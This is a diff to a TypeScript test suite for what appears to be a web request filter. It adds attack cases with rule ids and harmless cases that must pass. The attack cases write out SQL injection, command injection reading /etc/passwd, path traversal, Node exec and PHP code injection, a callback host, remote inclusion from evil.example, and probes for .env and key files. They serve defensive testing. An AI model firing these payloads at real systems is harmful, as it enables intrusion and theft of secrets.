@@ -86,6 +86,30 @@ const attacks: readonly (readonly [string, number, TestRequest])[] = [
   ['a prototype', 2086, { method: 'POST', headers: json, body: '{"__proto__":{"admin":true}}' }],
   ['a file of the repository', 2015, { target: '/.git/config' }],
   ['a scanner', 2014, { headers: { 'User-Agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } }],
+  ['SQL in base64', 2041, { target: `/items?id=${Buffer.from("1' or '1'='1' -- x").toString('base64url')}` }],
+  [
+    'SQL in the escapes of JavaScript',
+    2041,
+    { target: String.raw`/items?id=1\u0020union\u0020select\u00201,2` },
+  ],
+  ['a script in references of HTML', 2051, { target: '/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;' }],
+  [
+    'an attribute of XML',
+    2041,
+    { method: 'POST', headers: { 'Content-Type': 'text/xml' }, body: `<a id="1' or '1'='1"/>` },
+  ],
+  ['SQL in a header field of any name', 2043, { headers: { 'X-Tenant': "7' union select 1,2 -- " } }],
+  ['a command in a header field of any name', 2063, { headers: { 'X-Format': 'pdf;cat /etc/passwd' } }],
+  ['a path in a header field', 2073, { headers: { 'X-File': '../../../etc/passwd' } }],
+  ['a class of Java', 2064, { target: '/x?type=java.lang.ProcessBuilder' }],
+  ['code of PHP', 2068, { target: '/x?f=base64_decode(%27aWQ=%27)' }],
+  ['code of Node', 2069, { target: "/x?f=require('child_process').exec('id')" }],
+  ['a name that an attack calls back', 2070, { target: '/x?url=https://abc123.oast.live/' }],
+  ['a program included from afar', 2077, { target: '/x?base_path=http://evil.example/c.txt' }],
+  ['an environment file', 2015, { target: '/api/.env.production' }],
+  ['a key that was left lying', 2015, { target: '/keys/server.pem' }],
+  ['a door of another program', 2016, { target: '/wp-login.php' }],
+  ['a line break in the path', 2017, { target: '/items/a%0d%0ab' }],
   ['a body that is not what it says', 2011, { method: 'POST', headers: json, body: '{"a":' }],
 ]
 
@@ -146,6 +170,29 @@ const harmless: readonly (readonly [string, TestRequest])[] = [
       body: 'name=Ada+Lovelace&message=I+like+cats+%26+dogs%3B+and+you%3F&agree=true',
     },
   ],
+  [
+    'an upload of a browser whose boundary has the word in it',
+    {
+      method: 'POST',
+      headers: { 'Content-Type': 'multipart/form-data; boundary=----WebKitFormBoundaryJl8O6PWudNUIcH6F' },
+      body: '------WebKitFormBoundaryJl8O6PWudNUIcH6F\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n------WebKitFormBoundaryJl8O6PWudNUIcH6F--\r\n',
+    },
+  ],
+  [
+    'a picture whose address ends in a question mark',
+    { method: 'POST', headers: json, body: '{"avatar_url":"https://avatars.example.com/u/6?"}' },
+  ],
+  [
+    'a bulk of two thousand values',
+    {
+      method: 'POST',
+      headers: json,
+      body: JSON.stringify(Array.from({ length: 2_000 }, (_, id) => ({ id }))),
+    },
+  ],
+  ['a token and an identifier in base64', { target: '/x?token=eyJhbGciOiJub25lIn0&id=dXNlcl80Mg' }],
+  ['files under well-known and in a tree', { target: '/.well-known/jwks.json' }],
+  ['the content of a repository', { target: '/repos/ada/engine/contents/.github/workflows/test.yml' }],
   [
     'a query of GraphQL',
     {
